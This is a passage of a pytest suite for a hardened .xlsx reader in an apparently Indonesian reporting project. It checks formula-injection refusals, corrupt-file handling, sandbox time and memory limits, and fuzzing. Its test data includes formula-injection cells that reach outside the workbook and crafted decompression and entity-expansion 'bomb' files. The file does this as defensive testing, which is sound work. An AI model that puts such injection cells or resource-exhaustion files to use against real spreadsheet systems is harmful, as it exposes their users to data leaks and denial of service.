        "Tabel1[[#This Row],[Target|Realisasi]]-Tabel1['#x]/Tabel1['#y]",
        "RECALL(1)+Callisto(2)",
        '__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"")")',
    ],
)
def test_formulas_that_stay_inside_are_fine(formula: str) -> None:
    assert not calls_out(formula)


def test_all_such_cells_of_a_file_are_told_at_once() -> None:
    cells = (
        '<row r="1"><c r="A1"><f>[1]A!A1</f></c><c r="B1" t="inlineStr"><is><t>_x0000_</t></is></c></row>'
        '<row r="2"><c r="A2"><f>RTD("")</f></c></row>'
    )
    assert refusals(package(cells)) == [
        ("formula_injection", "Matriks!A1"),
        ("control_characters", "Matriks!B1"),
        ("formula_injection", "Matriks!A2"),
    ]


@pytest.mark.parametrize(
    "cells",
    [
        '<row r="1"><c r="A1" t="s"><v>7</v></c></row>',
        '<row r="1"><c r="A1" t="s"><v>-1</v></c></row>',
        '<row r="1"><c r="A1"><v>dua belas</v></c></row>',
        '<row r="1"><c r="A1"><v>1e999</v></c></row>',
        '<row r="1"><c r="1A"><v>1</v></c></row>',
        '<row r="1"><c r="A0"><v>1</v></c></row>',
        '<row r="1"><c r="A1" t="?"><v>1</v></c></row>',
        '<row r="1"><c r="A1"><v>1</c></row>',
    ],
)
def test_senseless_cells_make_a_file_corrupt(cells: str) -> None:
    assert refusal(package(cells)) == "corrupt_file"


def test_a_sheet_whose_part_is_missing_makes_a_file_corrupt() -> None:
    assert refusal(zipped({name: text for name, text in MINIMAL.items() if name != SHEET})) == "corrupt_file"


def test_a_workbook_with_empty_sheets_only_is_empty() -> None:
    assert refusal(saved(openpyxl.Workbook())) == "empty_workbook"


# The reading process


def test_a_reading_process_that_takes_too_long_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "START", "import time; time.sleep(9)")
    monkeypatch.setattr(limits, "CHILD_SECONDS", 1)
    assert refusal(package()) == "time_limit"


@pytest.mark.skipif(sys.platform == "win32", reason="limits need a POSIX system")
@pytest.mark.parametrize(
    ("start", "code"),
    [
        ("import os, signal; os.kill(os.getpid(), signal.SIGXCPU)", "time_limit"),
        ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", "too_large"),
        ("import os, signal; os.kill(os.getpid(), signal.SIGSEGV)", "corrupt_file"),
        ("raise SystemError('rahasia')", "corrupt_file"),
        ("print('bukan JSON')", "corrupt_file"),
        ("pass", "corrupt_file"),
    ],
)
def test_however_the_reading_process_ends_there_is_an_answer(
    start: str, code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "START", start)
    assert refusal(package()) == code


def test_a_server_that_cannot_start_processes_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", "/tidak/ada")
    assert refusal(package()) == "reader_unavailable"


def test_a_file_waits_for_its_turn_but_not_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    with ThreadPoolExecutor(6) as senders:
        assert list(senders.map(values, [package()] * 6)) == [{"A1": 1}] * 6
    monkeypatch.setattr(limits, "CHILD_SECONDS", 0.1)
    monkeypatch.setattr(workbook, "_turns", Semaphore(0))
    assert refusal(package()) == "reader_unavailable"


def test_memory_that_runs_out_is_an_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "CHILD_MEMORY", 48 * limits.MEGABYTE)
    filler = random.Random(3).randbytes(1_000_000).hex()
    cells = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{filler * 15}</t></is></c></row>'
    assert refusal(package(cells)) == "too_large"


def test_our_own_slip_is_logged_without_the_content(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    slip = "import reports.matrix.parse as p; p.Archive = lambda data: (lambda: 1)(data)"
    monkeypatch.setattr(workbook, "START", workbook.START.replace("main()", f"{slip}; main()"))
    with caplog.at_level(logging.ERROR):
        assert refusal(package()) == "corrupt_file"
    assert "TypeError" in caplog.text


def test_the_largest_file_accepted_needs_less_than_400_megabytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "CHILD_MEMORY", 400 * limits.MEGABYTE)
    monkeypatch.setattr(limits, "CHILD_SECONDS", 600)  # how long it takes is measured by make bench

    def text_cell(row: int, column: int) -> str:
        text = f"Baris {row} kolom {column} – capaian “baik”, dilaporkan K/L dan OMS"
        return f'<c t="inlineStr"><is><t>{text}</t></is></c>'

    rows = ("".join(text_cell(row, column) for column in range(15)) for row in range(limits.MAX_ROWS))
    data = package("".join(f"<row>{cells}</row>" for cells in rows))
    assert len(sheet_of(data).cells) == limits.MAX_CELLS


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="counts memory as Linux does")
def test_the_server_grows_by_less_than_50_megabytes(tmp_path: Path) -> None:
    bombs = {
        "ruang": with_parts({SHEET: spaces(90_000_000)}),
        "sel": package("".join(f'<row r="{row}">{"<c><v>123456</v></c>" * 199}</row>' for row in range(1, 1700))),
        "entitas": with_parts({SHEET: ENTITIES + MINIMAL[SHEET]}),
        "pojok": package('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "rumus": package(
            "".join(f'<row><c><v>{row}</v></c><c t="str"><f>RTD("")</f></c></row>' for row in range(19_000))
        ),
    }
    for name, data in bombs.items():
        (tmp_path / name).write_bytes(data)
    script = (
        "import resource, sys; from pathlib import Path; from reports.matrix.workbook import Refused, open_workbook\n"
        "peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "before = peak()\n"
        "for path in sorted(Path(sys.argv[1]).iterdir()):\n"
        "    try: open_workbook(path.read_bytes(), path.name)\n"
        "    except Refused as refused: print(refused)\n"
        "print((peak() - before) // 1024)"
    )
    root = Path(__file__).parents[3]
    told = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path)], capture_output=True, text=True, cwd=root, check=True
    ).stdout.split("\n")
    assert len(told) == len(bombs) + 2
    assert int(told[-2]) < 50


def test_the_reading_process_imports_nothing_but_the_standard_library() -> None:
    script = workbook.START.replace("main()", "print(*sys.modules)")
    command = [sys.executable, "-I", "-S", "-c", script, str(workbook.ROOT)]
    loaded = subprocess.run(command, capture_output=True, text=True, check=True).stdout.split()
    foreign = {name.partition(".")[0] for name in loaded} - sys.stdlib_module_names - {"__main__", "reports"}
    assert not foreign


# Random damage


def good_files() -> list[bytes]:
    return [path.read_bytes() for path in sorted(SAMPLES.glob("contoh_*.xlsx"))]


def bytes_changed(data: bytes, chance: random.Random) -> bytes:
    damaged = bytearray(data)
    for _ in range(chance.choice((1, 3, 20))):
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
    return bytes(damaged)


def piece_moved(data: bytes, chance: random.Random) -> bytes:
    start, end = sorted(chance.sample(range(len(data)), 2))
    return data[:start] + data[start:end] * chance.choice((0, 2)) + data[end:]


def xml_changed(data: bytes, chance: random.Random) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    name = chance.choice(sorted(parts))
    change = chance.choice((bytes_changed, piece_moved, word_changed))
    parts[name] = change(parts[name], chance)
    return zipped(parts)


def word_changed(data: bytes, chance: random.Random) -> bytes:
    words = [b'"', b"<", b"r=", b"t=", b"/>", b"<v>", b"s=", b"1", b"A", b"http", b"rId", b"sheet"]
    new = [b"", b"\0", b"&", b"<![CDATA[", b"-1", b"1e400", b"99999999999999999999", b"XFD1048576", b"_xD800_", b"<v>"]
    return data.replace(chance.choice(words), chance.choice(new), chance.choice((1, -1)))


CHANGES = [bytes_changed, piece_moved, xml_changed]
Change = Callable[[bytes, random.Random], bytes]


def open_damaged(change: Change, seed: int) -> None:
    chance = random.Random(f"{change.__name__}{seed}")
    with suppress(Refused):
        assert isinstance(open_workbook(change(chance.choice(good_files()), chance), "rusak.xlsx"), Grid)


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_randomly_damaged_files_are_read_or_refused(change: Change, caplog: pytest.LogCaptureFixture) -> None:
    for seed in range(35):
        open_damaged(change, seed)
    assert not caplog.records


@pytest.mark.parametrize("change", CHANGES, ids=lambda change: change.__name__)
def test_many_randomly_damaged_files_cause_no_slip(
    change: Change, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same without starting a process for each, so that there can be many."""
    monkeypatch.setattr(workbook, "_read_elsewhere", lambda data: b"\n".join(parse.answer(data)))
    for seed in range(35, 500):
        open_damaged(change, seed)
    assert capsys.readouterr() == ("", "")
